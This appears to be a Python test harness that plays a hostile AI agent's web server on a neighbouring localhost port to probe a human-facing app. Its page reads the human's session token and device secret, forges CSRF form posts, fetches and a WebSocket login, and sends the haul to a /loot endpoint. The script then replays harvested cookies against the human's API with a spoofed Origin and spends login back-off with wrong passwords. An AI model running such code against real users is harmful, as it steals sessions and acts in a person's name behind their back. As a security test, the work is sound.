"""An agent's own web server on another localhost port, as a program the agent OS user runs:
it keeps every cookie the human's browser sends it (cookies are not isolated by port), serves
a page that tries to read the human's session token and device secret and to forge requests
from the human's browser (CSRF: a form post and a fetch carrying the browser's cookies, and a
WebSocket — localhost ports are the same site, so SameSite does not stop them), and, when told,
replays all it collected against the human's server — as a program, not a browser, so it sets
whatever Origin it likes.

    python agent_port_server.py HUMAN_URL ITEM_ID

Prints `port N` once listening. Each line on standard input is a command: `replay` tries
everything and prints one JSON line of what it got; end of input stops it."""

from __future__ import annotations

import http.server
import json
import sys
import threading
import urllib.error
import urllib.request

HUMAN, ITEM = sys.argv[1].rstrip("/"), sys.argv[2]
cookies: dict[str, str] = {}
loot: list[dict] = []

PAGE = f"""<!doctype html><title>agent's dev server</title><body>
<img src="/api/auth/collect" alt=""><img src="/api/items" alt="">
<iframe name="sink" style="display:none"></iframe>
<form id="forge" method="post" target="sink" enctype="text/plain"
      action="{HUMAN}/api/items/{ITEM}/discuss">
  <input name='{{"message":"forged by the agent page","x":"' value='"}}'></form>
<script>
  const report = {{token: localStorage.getItem("htrac.token"),
                  device: localStorage.getItem("htrac.device"), cookie: document.cookie}};
  document.getElementById("forge").submit();
  fetch("{HUMAN}/api/items/{ITEM}/lock", {{method: "POST", mode: "no-cors",
        credentials: "include", headers: {{"Content-Type": "text/plain"}},
        body: '{{"fields":["status"]}}'}}).catch(() => {{}})
    .then(() => new Promise((resolve) => {{
      const ws = new WebSocket("{HUMAN.replace("http", "ws", 1)}/ws");
      ws.onopen = () => ws.send(JSON.stringify({{type: "auth", token: "guessed"}}));
      ws.onmessage = (e) => resolve("message:" + e.data);
      ws.onclose = (e) => resolve("closed:" + e.code);
    }}))
    .then((ws) => {{ report.websocket = ws;
      return fetch("/loot", {{method: "POST", body: JSON.stringify(report)}}); }})
    .then(() => {{ document.title = "looted"; }});
</script></body>""".encode()


class Handler(http.server.BaseHTTPRequestHandler):
    def _keep_cookies(self) -> None:
        for part in (self.headers.get("Cookie") or "").split(";"):
            if "=" in part:
                name, value = part.strip().split("=", 1)
                cookies[name] = value

    def do_GET(self) -> None:  # noqa: N802
        self._keep_cookies()
        body = PAGE if self.path == "/" else b""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:  # noqa: N802
        self._keep_cookies()
        data = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/loot":
            loot.append(json.loads(data or b"{}"))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


def request(method: str, path: str, body: dict | None = None,
            headers: dict[str, str] | None = None) -> int:
    jar = "; ".join(f"{k}={v}" for k, v in cookies.items())
    sent = {"Origin": HUMAN, "Cookie": jar, "Content-Type": "application/json", **(headers or {})}
    req = urllib.request.Request(HUMAN + path, method=method, headers=sent,
                                 data=None if body is None else json.dumps(body).encode())
    try:
        with urllib.request.urlopen(req, timeout=30) as answer:
            return answer.status
    except urllib.error.HTTPError as exc:
        return exc.code


def websocket(token: str) -> str:
    """What the human's /ws says to the collected cookies and `token`."""
    from websockets.sync.client import connect

    jar = "; ".join(f"{k}={v}" for k, v in cookies.items())
    try:
        with connect(HUMAN.replace("http", "ws", 1) + "/ws", origin=HUMAN,
                     additional_headers={"Cookie": jar}, open_timeout=10) as ws:
            ws.send(json.dumps({"type": "auth", "token": token}))
            return "message: " + str(ws.recv(timeout=10))[:80]
    except Exception as exc:  # a refusal is what we expect; say which
        return f"refused: {type(exc).__name__}: {exc}"[:200]


def replay() -> dict:
    stolen = next((x for x in loot if x.get("token")), {})
    token = stolen.get("token") or "guessed-token"
    headers = {"X-Htrac-Token": token}
    got = {"cookies": sorted(cookies), "loot": loot}
    got["list"] = request("GET", "/api/items", headers=headers)
    got["session"] = request("GET", "/api/auth/session", headers=headers)
    got["lock"] = request("POST", f"/api/items/{ITEM}/lock", {"fields": ["status"]}, headers)
    got["discuss"] = request("POST", f"/api/items/{ITEM}/discuss",
                             {"message": "written with the human's cookies"}, headers)
    got["logout"] = request("POST", "/api/auth/logout", {}, headers)
    got["websocket"] = websocket(token)
    # spend the human's login back-off, if a device secret were to be found among the cookies
    device = stolen.get("device") or cookies.get("htrac_device") or "no-device-found"
    got["spend_backoff"] = [request("POST", "/api/auth/login", {"password": f"wrong {n}"},
                                    {"X-Htrac-Device": device}) for n in range(3)]
    return got


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
print(f"port {server.server_address[1]}", flush=True)
for line in sys.stdin:
    if line.strip() == "replay":
        print(json.dumps(replay()), flush=True)
server.shutdown()
